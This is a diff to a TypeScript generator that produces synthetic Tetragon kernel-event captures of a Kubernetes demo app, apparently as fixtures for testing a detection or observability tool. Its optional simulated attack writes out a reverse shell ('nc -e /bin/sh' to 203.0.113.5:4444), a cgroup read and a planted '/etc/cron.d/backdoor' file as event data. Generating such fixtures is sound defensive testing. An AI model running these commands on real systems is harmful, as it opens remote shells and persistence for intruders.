@@ -4,12 +4,13 @@
 // From the manifests: each Deployment's pod (its labels + pod-template-hash, a pod IP, container id,
 // image), its server process, its kubelet exec probes, and the calls it makes (its `*_ADDR` env vars:
 // the app's call graph). From kubectl_svc.json: the ClusterIPs and ports those calls go to (or, as with
-// socket-level load balancing, the chosen pod's IP and target port). Also: host processes without pod
+// socket-level load balancing, the chosen pod's IP and target port), and the callee's answer
+// (tcp_sendmsg on its accepted socket, from its pod IP). Also: host processes without pod
 // (kubelet, containerd), containerd-shim parents, a forked child that never execs, an unknown process,
 // file writes in both policy styles (v1.3's sys_write on a followed fd, v1.4+'s security_file_permission),
 // out-of-order lines (a kprobe before its exec, as the agent's event cache does) and duplicate lines
 // (export-stdout's `tail` re-emitting its last 10 lines), optionally process.ns and protojson's
-// occasional space after commas.
+// occasional space after commas, processes whose events name a container but no pod, and an attack.
 import { readFileSync, readdirSync } from 'node:fs';
 import path from 'node:path';
 import { parse as parseYaml } from 'yaml';
@@ -28,6 +29,13 @@ export interface GenOptions {
   /** `, ` between members, as some Tetragon builds write. */
   spaced?: boolean;
   node?: string;
+  /**
+   * Processes whose events carry a container id but no pod: one in a pod (the agent's pod lookup
+   * failed: `docker` set, `pod` missing) and one in a container Kubernetes does not manage.
+   */
+  containersWithoutPod?: boolean;
+  /** An attack in adservice's pod: a shell from Java, `nc -e /bin/sh` to a public IP on 4444, `cat /proc/1/cgroup`, a cron file. */
+  attack?: boolean;
 }
 
 export interface GenPod {
@@ -45,11 +53,30 @@ export interface GenPod {
 }
 
 export interface GenProcess {
+  /** The pod it runs in (whether or not its events say so). */
   pod: string | undefined;
   namespace: string | undefined;
   services: string[];
+  /** Runs on the node itself, in no container. */
   host: boolean;
   probe: boolean;
+  /** Its events carry a container id but no pod. */
+  containerOnly?: boolean;
+  /** The agent never cached it: its events carry a pid and nothing else. */
+  unknown?: boolean;
+}
+
+/** The attack's processes (`attack` option), by what they do. */
+export interface GenAttack {
+  service: string;
+  pod: string;
+  shell: { execId: string; pid: number };
+  netcat: { execId: string; pid: number };
+  cat: { execId: string; pid: number };
+  tee: { execId: string; pid: number };
+  /** Where netcat connects. */
+  remote: { address: string; port: number };
+  cronFile: string;
 }
 
 export interface GenCall {
@@ -77,6 +104,11 @@ export interface GenTruth {
   events: Record<string, number>;
   /** kprobe lines written before their process's exec line. */
   outOfOrder: number;
+  /** Connects of exec probes to their own pod's port (in-pod, 127.0.0.1). */
+  probeConnects: { service: string; port: number; time: string }[];
+  /** Connects of host processes (address:port they go to). */
+  hostConnects: { address: string; port: number; time: string }[];
+  attack: GenAttack | undefined;
 }
 
 export interface GeneratedCapture {
@@ -230,6 +262,10 @@ interface Proc {
   containerPid?: number;
   probe?: boolean;
   inInitTree?: boolean;
+  /** In `pod`, but its events leave the pod out (the agent's pod lookup failed). */
+  podHidden?: boolean;
+  /** In a container no pod owns (bare 64-hex id). */
+  container?: string;
   netns: number;
   pidns: number;
   mntns: number;
@@ -250,7 +286,7 @@ class Generator {
 
   constructor(private readonly opts: Required<GenOptions>) {
     this.rnd = seededRandom(opts.seed);
-    this.truth = { node: opts.node, pods: [], processes: new Map(), calls: [], duplicates: 0, events: {}, outOfOrder: 0 };
+    this.truth = { node: opts.node, pods: [], processes: new Map(), calls: [], duplicates: 0, events: {}, outOfOrder: 0, probeConnects: [], hostConnects: [], attack: undefined };
     const systemd = this.procFs(1, '/usr/lib/systemd/systemd', '--system --deserialize 31', '');
     this.host = {
       systemd,
@@ -286,12 +322,21 @@ class Generator {
     const pid = this.nextPid++;
     const p: Proc = { execId: this.execId(pid, this.now), pid, binary, args, cwd, flags: 'execve clone', startNs: this.now, uid: 0, parentExecId: parent.execId, netns: parent.netns, pidns: parent.pidns, mntns: parent.mntns, ...extra };
     const pod = p.pod;
-    this.truth.processes.set(p.execId, { pod: pod?.name, namespace: pod?.namespace, services: pod?.services ?? [], host: pod === undefined, probe: p.probe ?? false });
+    const containerOnly = p.podHidden === true || p.container !== undefined;
+    this.truth.processes.set(p.execId, {
+      pod: pod?.name,
+      namespace: pod?.namespace,
+      services: pod?.services ?? [],
+      host: pod === undefined && p.container === undefined,
+      probe: p.probe ?? false,
+      ...(containerOnly ? { containerOnly } : {}),
+    });
     return p;
   }
 
   processJson(p: Proc, tid?: number): Record<string, unknown> {
-    const pod = p.pod;
+    const pod = p.podHidden ? undefined : p.pod;
+    const docker = p.pod ? p.pod.containerId.replace('containerd://', '').slice(0, 31) : p.container?.slice(0, 31);
     return {
       exec_id: p.execId,
       pid: p.pid,
@@ -318,12 +363,12 @@ class Generator {
         workload: pod.deployment,
         workload_kind: 'Deployment',
       },
-      docker: pod ? pod.containerId.replace('containerd://', '').slice(0, 31) : undefined,
+      docker,
       parent_exec_id: p.parentExecId || undefined,
       refcnt: 1,
       ns: this.opts.ns ? namespaces(p) : undefined,
       tid: tid ?? p.pid,
-      in_init_tree: pod ? (p.inInitTree ?? false) : undefined,
+      in_init_tree: docker ? (p.inInitTree ?? false) : undefined,
     };
   }
 
@@ -344,6 +389,11 @@ class Generator {
 
   kprobe(p: Proc, parent: Proc, fn: string, args: unknown[], policy: string, extra: Record<string, unknown> = {}, tid?: number): void {
     this.tick(2);
+    this.kprobeNow(p, parent, fn, args, policy, extra, tid);
+  }
+
+  /** A kprobe at the time of the previous event (draws no random number: the rest of the capture stays as it was). */
+  kprobeNow(p: Proc, parent: Proc, fn: string, args: unknown[], policy: string, extra: Record<string, unknown> = {}, tid?: number): void {
     const body = { process: this.processJson(p, tid), parent: this.processJson(parent), function_name: fn, args, ...extra, action: 'KPROBE_ACTION_POST', policy_name: policy, return_action: 'KPROBE_ACTION_POST' };
     this.write('process_kprobe', body, p.execId);
   }
@@ -392,6 +442,46 @@ class Generator {
     if (r % HOST_PERIOD === 0) this.kubelet(r);
     if (r === 0) this.unknownProcess();
     if (r === 1) this.hostShell();
+    if (r === 2 && this.opts.containersWithoutPod) this.containersWithoutPod();
+    if (r === 3 && this.opts.attack) this.attack();
+  }
+
+  /** A `kubectl exec` into cartservice the agent could not resolve to its pod, and a container of no pod (`ctr run`). */
+  private containersWithoutPod(): void {
+    const cart = this.byService.get('cartservice')!;
+    const exec = this.spawn(cart.shim, '/bin/ls', '-l /app', '/app', { pod: cart.pod, podHidden: true, containerPid: 300, uid: 1000, ...nsOf(cart.server) });
+    this.exec(exec, cart.shim);
+    this.exit(exec, cart.shim, 0);
+    const shim = this.spawn(this.host.containerd, '/usr/local/bin/containerd-shim-runc-v2', `-namespace default -id ${this.hex(64)} -address /run/containerd/containerd.sock`, '/run/containerd');
+    this.exec(shim, this.host.containerd);
+    const lone = this.spawn(shim, '/bin/busybox', 'sleep 3600', '/', { container: this.hex(64), containerPid: 1, inInitTree: true, netns: 4026532900, pidns: 4026532901, mntns: 4026532902 });
+    this.exec(lone, shim);
+    this.kprobe(lone, shim, 'security_file_permission', [{ file_arg: { path: '/tmp/lone.log', permission: '-rw-r--r--' } }, { int_arg: 2 }], 'file-monitoring', { return: { int_arg: 0 } });
+  }
+
+  /** In adservice: Java starts a shell, which runs a reverse shell, reads its cgroup and plants a cron file. */
+  private attack(): void {
+    const { pod, server } = this.byService.get('adservice')!;
+    const inPod = (containerPid: number): Partial<Proc> => ({ pod, containerPid, uid: 1000, ...nsOf(server) });
+    const remote = { address: '203.0.113.5', port: 4444 };
+    const cronFile = '/etc/cron.d/backdoor';
+    const sh = this.spawn(server, '/bin/sh', `-c "nc -e /bin/sh ${remote.address} ${remote.port}; cat /proc/1/cgroup; tee ${cronFile}"`, '/app', inPod(400));
+    this.exec(sh, server);
+    const nc = this.spawn(sh, '/usr/bin/nc', `-e /bin/sh ${remote.address} ${remote.port}`, '/app', inPod(401));
+    this.exec(nc, sh);
+    const sock = { family: 'AF_INET', type: 'SOCK_STREAM', protocol: 'IPPROTO_TCP', saddr: pod.ip, daddr: remote.address, sport: 45678, dport: remote.port, cookie: '18446633333333333333', state: 'TCP_SYN_SENT' };
+    this.kprobe(nc, sh, 'tcp_connect', [{ sock_arg: sock }], 'connect');
+    this.exit(nc, sh, 0);
+    const cat = this.spawn(sh, '/bin/cat', '/proc/1/cgroup', '/app', inPod(402));
+    this.exec(cat, sh);
+    this.exit(cat, sh, 0);
+    const tee = this.spawn(sh, '/usr/bin/tee', cronFile, '/app', inPod(403));
+    this.exec(tee, sh);
+    this.kprobe(tee, sh, 'security_file_permission', [{ file_arg: { path: cronFile, permission: '-rw-r--r--' } }, { int_arg: 2 }], 'file-monitoring', { return: { int_arg: 0 } });
+    this.exit(tee, sh, 0);
+    this.exit(sh, server, 0);
+    const ref = (p: Proc) => ({ execId: p.execId, pid: p.pid });
+    this.truth.attack = { service: 'adservice', pod: pod.name, shell: ref(sh), netcat: ref(nc), cat: ref(cat), tee: ref(tee), remote, cronFile };
   }
 
   /** A host shell (no pod) whose arguments are not ASCII: CRI chunks can cut inside a character. */
@@ -415,6 +505,9 @@ class Generator {
     this.kprobe(src.server, src.shim, 'tcp_connect', [sock('TCP_SYN_SENT')], 'connect', {}, tid);
     this.truth.calls.push({ execId: src.server.execId, from, to, saddr: src.pod.ip, sport, daddr, dport, viaClusterIp, time: epochText(this.now) });
     if (this.rnd.rand() < 0.5) this.kprobe(src.server, src.shim, 'tcp_sendmsg', [sock('TCP_ESTABLISHED'), { int_arg: 64 + Math.floor(this.rnd.rand() * 2000) }], 'connect', {}, tid);
+    // The server answers on the accepted socket (tcp_sendmsg sees it too): its pod IP, its port, the caller.
+    const reply = { family: 'AF_INET', type: 'SOCK_STREAM', protocol: 'IPPROTO_TCP', saddr: dst.pod.ip, daddr: src.pod.ip, sport: svc.targetPort, dport: sport, cookie: String(BigInt(cookie) + 1n), state: 'TCP_ESTABLISHED' };
+    this.kprobeNow(dst.server, dst.shim, 'tcp_sendmsg', [{ sock_arg: reply }, { int_arg: 32 + (sport % 4000) }], 'connect');
     this.kprobe(src.server, src.shim, 'tcp_close', [sock('TCP_ESTABLISHED')], 'connect', {}, tid);
   }
 
@@ -427,6 +520,7 @@ class Generator {
     const port = Number(/-addr=:(\d+)/.exec(command.join(' '))?.[1] ?? d.port);
     const sock = { sock_arg: { family: 'AF_INET', type: 'SOCK_STREAM', protocol: 'IPPROTO_TCP', saddr: '127.0.0.1', daddr: '127.0.0.1', sport: 40000 + (this.nextPid % 20000), dport: port, cookie: String(18446600000000000000n + BigInt(this.nextPid)), state: 'TCP_SYN_SENT' } };
     this.kprobe(p, shim, 'tcp_connect', [sock], 'connect');
+    this.truth.probeConnects.push({ service: d.name, port, time: epochText(this.now) });
     if (this.rnd.rand() < 0.3) {
       // The agent's event cache held the exec back: the kprobe line comes first.
       const [exec] = this.lines.splice(index, 1);
@@ -454,6 +548,7 @@ class Generator {
     const k = this.host.kubelet;
     const api = { sock_arg: { family: 'AF_INET', type: 'SOCK_STREAM', protocol: 'IPPROTO_TCP', saddr: NODE_IP, daddr: '10.96.0.1', sport: 50000 + r, dport: 443, cookie: String(18446611111111111111n + BigInt(r)), state: 'TCP_SYN_SENT' } };
     this.kprobe(k, this.host.systemd, 'tcp_connect', [api], 'connect');
+    this.truth.hostConnects.push({ address: api.sock_arg.daddr, port: api.sock_arg.dport, time: epochText(this.now) });
     this.kprobe(k, this.host.systemd, 'security_file_permission', [{ file_arg: { path: '/var/lib/kubelet/cpu_manager_state', permission: '-rw-------' } }, { int_arg: 2 }], 'file-monitoring', { return: { int_arg: 0 } });
   }
 
@@ -464,7 +559,7 @@ class Generator {
     const process = { pid, start_time: protoTime(BOOT_NS + 5n * BigInt(NS_PER_S)), flags: 'unknown' };
     const sock = { sock_arg: { family: 'AF_INET', type: 'SOCK_STREAM', protocol: 'IPPROTO_TCP', saddr: NODE_IP, daddr: '10.96.0.10', sport: 53000, dport: 53, cookie: '18446622222222222222', state: 'TCP_CLOSE' } };
     this.write('process_kprobe', { process, function_name: 'tcp_close', args: [sock], action: 'KPROBE_ACTION_POST', policy_name: 'connect', return_action: 'KPROBE_ACTION_POST' }, `pid:${pid}`);
-    this.truth.processes.set(`pid:${pid}`, { pod: undefined, namespace: undefined, services: [], host: true, probe: false });
+    this.truth.processes.set(`pid:${pid}`, { pod: undefined, namespace: undefined, services: [], host: true, probe: false, unknown: true });
   }
 
   finish(): GeneratedCapture {
@@ -508,11 +603,48 @@ function namespaces(p: Proc): Record<string, { inum: number; is_host?: boolean }
 
 /** The capture, deterministic for given options. */
 export function generateTetragonCapture(options: GenOptions = {}): GeneratedCapture {
-  const opts: Required<GenOptions> = { seed: 12, rounds: 10, ns: false, spaced: false, node: 'kind-worker', ...options };
+  const opts: Required<GenOptions> = { seed: 12, rounds: 10, ns: false, spaced: false, node: 'kind-worker', containersWithoutPod: false, attack: false, ...options };
   const deployments = loadDeployments();
   const services = loadServices();
   const g = new Generator(opts);
   g.startPods(deployments, services);
   for (let r = 0; r < opts.rounds; r++) g.round(r, deployments, services);
   return g.finish();
+}
+
+/**
+ * The capture's Pods as `kubectl get pods -o json` lists them: each Deployment's pod template from
+ * the manifests, with the name, uid, labels, pod IP and container id the generator gave that pod.
+ */
+export function podList(truth: GenTruth): { apiVersion: 'v1'; kind: 'List'; metadata: { resourceVersion: '' }; items: object[] } {
+  const dir = path.join(CORAL, 'manifests');
+  const templates = new Map<string, { spec: Record<string, unknown> & { containers: { name: string; image: string }[] } }>();
+  for (const f of readdirSync(dir).filter((n) => n.endsWith('-deploy.yaml'))) {
+    const y = parseYaml(readFileSync(path.join(dir, f), 'utf8')) as { metadata: { name: string }; spec: { template: { spec: Record<string, unknown> & { containers: { name: string; image: string }[] } } } };
+    templates.set(y.metadata.name, y.spec.template);
+  }
+  const items = truth.pods.map((p) => {
+    const template = templates.get(p.deployment)!;
+    const hash = p.labels['pod-template-hash']!;
+    return {
+      apiVersion: 'v1',
+      kind: 'Pod',
+      metadata: {
+        name: p.name,
+        namespace: p.namespace,
+        uid: p.uid,
+        labels: p.labels,
+        ownerReferences: [{ apiVersion: 'apps/v1', kind: 'ReplicaSet', name: `${p.deployment}-${hash}`, uid: `rs-${hash}`, controller: true, blockOwnerDeletion: true }],
+      },
+      spec: { ...template.spec, nodeName: truth.node },
+      status: {
+        phase: 'Running',
+        hostIP: NODE_IP,
+        podIP: p.ip,
+        podIPs: [{ ip: p.ip }],
+        containerStatuses: template.spec.containers.map((c) => ({ name: c.name, image: c.image, containerID: p.containerId, ready: true, restartCount: 0 })),
+      },
+    };
+  });
+  return { apiVersion: 'v1', kind: 'List', metadata: { resourceVersion: '' }, items };
 }
